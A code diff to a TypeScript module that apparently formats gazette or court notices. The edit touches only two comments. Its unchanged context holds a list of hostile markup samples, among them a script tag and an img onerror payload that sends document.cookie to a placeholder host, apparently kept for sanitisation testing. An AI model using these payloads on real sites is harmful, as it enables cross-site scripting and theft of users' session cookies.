@@ -50,7 +50,7 @@ const accents: Record<string, string> = {
   "§": "&sect;",
 };
 
-/** What would happen to a page that showed a court's markup as it comes. */
+/** Markup that would be harmful on a page that shows it unsanitised. */
 const hostileBits = [
   '<div class="fixed inset-0 z-50"><script>alert(document.domain)</script>%</div>',
   '%<img src="x" onerror="fetch(\'https://exemplo.invalid/\' + document.cookie)">',
@@ -71,7 +71,7 @@ export function printNotice(notice: Notice): string {
 
 const COLUMNS = 118;
 
-/** Breaks lines at spaces, and behind the slash of "OAB 900001/SP" too, as typeset gazettes do. */
+/** Breaks lines at spaces, and after the slash of "OAB 900001/SP" too, as typeset gazettes do. */
 function wrap(text: string): string {
   const lines: string[] = [];
   let rest = text;
